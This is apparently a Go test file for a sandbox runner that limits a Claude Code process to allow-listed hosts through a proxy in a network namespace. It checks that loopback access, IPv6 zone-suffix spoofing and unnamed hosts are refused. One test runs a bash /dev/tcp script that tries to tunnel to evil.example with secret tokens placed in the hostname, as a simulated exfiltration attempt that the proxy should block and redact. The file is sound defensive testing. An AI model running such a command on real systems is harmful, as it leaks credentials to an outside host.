package runner

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// enclosed is an enclosure from which those may be reached, and the hosts that were refused.
func enclosed(t *testing.T, allowed ...reach) (*enclosure, func() []string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("only root can make a network namespace")
	}
	var mu sync.Mutex
	var denied []string
	e := &enclosure{}
	refuse := unreached{hide: strings.ToLower, tell: func(host string) { mu.Lock(); defer mu.Unlock(); denied = append(denied, host) }}
	if err := e.open(allowed, refuse); err != nil {
		t.Fatal(err)
	}
	return e, func() []string { mu.Lock(); defer mu.Unlock(); return slices.Clone(denied) }
}

// asks sends the proxy a request from within, and through the tunnel that this may open another one. It returns the last answer.
func asks(t *testing.T, e *enclosure, requests ...string) (code int, body string) {
	t.Helper()
	var c net.Conn
	if err := e.do(func() (err error) {
		c, err = net.DialTimeout("tcp", e.proxy.Addr().String(), 5*time.Second)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(patience))
	answers := bufio.NewReader(c)
	for _, request := range requests {
		method, rest, _ := strings.Cut(request, " ")
		fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: x.example\r\nConnection: close\r\n\r\n", method, rest)
		res, err := http.ReadResponse(answers, &http.Request{Method: method})
		if err != nil {
			t.Fatal(err)
		}
		code, body = res.StatusCode, ""
		if code != http.StatusOK || method != http.MethodConnect {
			raw, _ := io.ReadAll(res.Body)
			return code, string(raw)
		}
	}
	return code, body
}

// TestEnclosure: from within nothing is reached but by the proxy, and by that what is named and public, or where a repository is.
func TestEnclosure(t *testing.T) {
	t.Parallel()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "hello") }))
	t.Cleanup(srv.Close)
	at := srv.Listener.Addr().String()
	host, port, _ := net.SplitHostPort(at)
	repo := reach{name: host, port: port, inside: true}

	t.Run("no other network is there", func(t *testing.T) {
		t.Parallel()
		e, _ := enclosed(t, repo)
		for _, addr := range []string{at, "192.0.2.1:80", "[fdaa::3]:53", "8.8.8.8:53"} {
			err := e.do(func() error {
				c, err := net.DialTimeout("tcp", addr, 5*time.Second)
				if err == nil {
					_ = c.Close()
				}
				return err
			})
			if err == nil {
				t.Errorf("%s is reached from within", addr)
			}
		}
	})
	t.Run("the proxy tunnels to where a repository is", func(t *testing.T) {
		t.Parallel()
		e, denied := enclosed(t, repo)
		if code, body := asks(t, e, "CONNECT "+at, "GET /"); code != http.StatusOK || body != "hello" {
			t.Errorf("by CONNECT: %d %q", code, body)
		}
		if code, body := asks(t, e, "GET http://"+at+"/"); code != http.StatusOK || body != "hello" {
			t.Errorf("by GET: %d %q", code, body)
		}
		if got := denied(); len(got) > 0 {
			t.Errorf("refused: %q", got)
		}
	})
	t.Run("and to nothing that is not named", func(t *testing.T) {
		t.Parallel()
		e, denied := enclosed(t, reach{name: "pypi.org"})
		for _, ask := range []string{"CONNECT " + at, "GET http://" + at + "/"} {
			if code, body := asks(t, e, ask); code != http.StatusForbidden || !strings.Contains(body, "do not name this host") {
				t.Errorf("%s = %d %q, want it refused", ask, code, body)
			}
		}
		if got := denied(); !slices.Equal(got, []string{at}) || !slices.Equal(e.asked(), got) {
			t.Errorf("refused: %q", got)
		}
	})
	t.Run("a name that is allowed may not lead inside", func(t *testing.T) {
		t.Parallel()
		e, _ := enclosed(t, reach{name: "localhost", port: port})
		for _, name := range []string{"localhost", "LocalHost"} {
			if code, body := asks(t, e, "CONNECT "+name+":"+port); code != http.StatusForbidden || !strings.Contains(body, "not public") {
				t.Errorf("%s = %d %q, want it refused", name, code, body)
			}
		}
	})
	t.Run("an address that ends like an allowed name is none", func(t *testing.T) {
		t.Parallel()
		e, _ := enclosed(t, reach{name: "*.npmjs.org"})
		for _, addr := range []string{"[2606:4700:4700::1111%.npmjs.org]:443", "[64:ff9b::a00:1%25.npmjs.org]:443", "[::1%.npmjs.org]:443"} {
			if code, body := asks(t, e, "CONNECT "+addr); code < 400 || code == http.StatusBadGateway {
				t.Errorf("%s = %d %q, want it refused", addr, code, body)
			}
		}
	})
	t.Run("a tunnel ends with its turn", func(t *testing.T) {
		t.Parallel()
		e, _ := enclosed(t, repo)
		var c net.Conn
		if err := e.do(func() (err error) { c, err = net.Dial("tcp", e.proxy.Addr().String()); return err }); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = c.Close() }()
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: x\r\n\r\n", at)
		answers := bufio.NewReader(c)
		if res, err := http.ReadResponse(answers, &http.Request{Method: http.MethodConnect}); err != nil || res.StatusCode != http.StatusOK {
			t.Fatalf("CONNECT = %v, %v", res, err)
		}
		if err := e.open(nil, unreached{}); err != nil {
			t.Fatal(err)
		}
		_ = c.SetReadDeadline(time.Now().Add(patience))
		if _, err := answers.ReadByte(); !errors.Is(err, io.EOF) {
			t.Errorf("after the turn: %v, want the end", err)
		}
	})
	t.Run("what is no request for a proxy is refused", func(t *testing.T) {
		t.Parallel()
		e, _ := enclosed(t, repo)
		for _, ask := range []string{"GET /", "CONNECT x", "GET ftp://x/"} {
			if code, body := asks(t, e, ask); code < 400 {
				t.Errorf("%s = %d %q", ask, code, body)
			}
		}
	})
}

// TestHosts: what a turn runs as Claude's user is held to the hosts that the settings name, from the set-up command on; the next turn of other settings is not.
func TestHosts(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("only root can hold Claude's user to some hosts")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	t.Cleanup(srv.Close)
	host, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	m := newMachine(t)
	m.cfg.UID = 12345
	writeFake(t, m.cfg.Claude, crashProgram(t))
	if err := os.Chmod(filepath.Dir(m.cfg.Data), 0o755); err != nil {
		t.Fatal(err)
	}
	m.boot()
	// A turn's set-up command says what it can reach.
	look := func(name string, hosts ...string) (Outcome, string) {
		t.Helper()
		script := fmt.Sprintf(`exec 2>&1; grep -c : /proc/net/dev; if bash -c '</dev/tcp/%s/%s'; then echo reached; else echo not; fi; echo "$HTTPS_PROXY"`, host, port)
		turn := m.setUpTurn("{ " + script + "; } > " + name)
		turn.Settings.Hosts = hosts
		m.begin(turn, Secrets{})
		out, _ := m.end(turn)
		raw, _ := os.ReadFile(filepath.Join(m.cfg.workspace(), name))
		return out, string(raw)
	}
	if out, got := look("free"); out.Failure != FailNone || !strings.Contains(got, "reached") || strings.Contains(got, "http://127") {
		t.Fatalf("without hosts: %+v %q, want it reached: else this shows nothing", out, got)
	}
	if out, got := look("held", "pypi.org"); out.Failure != FailNone || !strings.HasPrefix(got, "1\n") || !strings.Contains(got, "not\n") || !strings.Contains(got, "\nhttp://127.0.0.1:") {
		t.Errorf("with hosts: %+v %q, want a loopback and a proxy alone", out, got)
	}
	asks := m.setUpTurn(`bash -c 'for at in Evil.example:443 evil.example:80 $TOKEN.$token.evil.example:443 pypi.org:8080; do
		exec 3<>/dev/tcp/127.0.0.1/${HTTPS_PROXY##*:}; printf "CONNECT $at HTTP/1.1\r\nHost: x\r\n\r\n" >&3; read -r line <&3; exec 3>&-
	done'`)
	asks.Settings.Hosts = []string{"pypi.org"}
	m.begin(asks, Secrets{GitToken: "Git-Token-AbCdEf0123456789", Env: map[string]string{"TOKEN": "Secret-Value-0123456789", "token": strings.Repeat("longer-than-a-label", 12)}})
	if out, _ := m.end(asks); !slices.Equal(out.Unreached, []string{"evil.example", "[redacted].[redacted].evil.example", "pypi.org:8080"}) {
		t.Errorf("not reached: %q; want the hosts that were asked for, once, without the secrets", out.Unreached)
	}
	if out, got := look("free-again"); out.Failure != FailNone || !strings.Contains(got, "reached") {
		t.Errorf("without hosts again: %+v %q", out, got)
	}
	near := m.turn("hello")
	near.Settings.Hosts, near.Repos = []string{NoHosts}, []Repo{{URL: "http://127.0.0.1:8700/acme/api"}}
	m.begin(near, Secrets{})
	if out, _ := m.end(near); out.Failure != FailSettings || !strings.Contains(out.Error, "this machine's own loopback") {
		t.Errorf("with a repository on the loopback: %+v", out)
	}
	bad := m.turn("hello")
	bad.Settings.Hosts = []string{"https://pypi.org"}
	if r := m.take(bad, Secrets{}); r.Status != StatusInvalid || r.Failure != FailSettings {
		t.Errorf("with what is no host: %+v", r)
	}
}

// TestNoHostsAsOneself: where Claude Code runs as the runner's own user nothing would hold it, so the turn does not begin.
func TestNoHostsAsOneself(t *testing.T) {
	t.Parallel()
	m := newMachine(t).boot()
	turn := m.turn("hello")
	turn.Settings.Hosts = []string{NoHosts}
	if out, answer := m.run(turn, Secrets{}); out.Failure != FailSettings || !strings.Contains(out.Error, "the runner's own user") || answer != "" {
		t.Errorf("outcome = %+v %q", out, answer)
	}
}

// TestNeeds: a runner that does not know what protects somebody refuses the turn.
func TestNeeds(t *testing.T) {
	t.Parallel()
	m := newMachine(t).boot()
	turn := m.turn("hello")
	r := call[TakeReply](m, "take", TakeRequest{Fence: m.fence, Turn: turn, Needs: []Need{NeedBudget, "antigravity"}})
	if r.Status != StatusInvalid || r.Failure != FailSettings || !strings.Contains(r.Reason, "antigravity") {
		t.Errorf("take = %+v, want it refused", r)
	}
	turn.Budget, turn.Settings.Hosts = &Budget{}, []string{NoHosts}
	if got := turn.Needs(); !slices.Equal(got, []Need{NeedBudget, NeedHosts}) {
		t.Errorf("Needs = %q", got)
	}
}
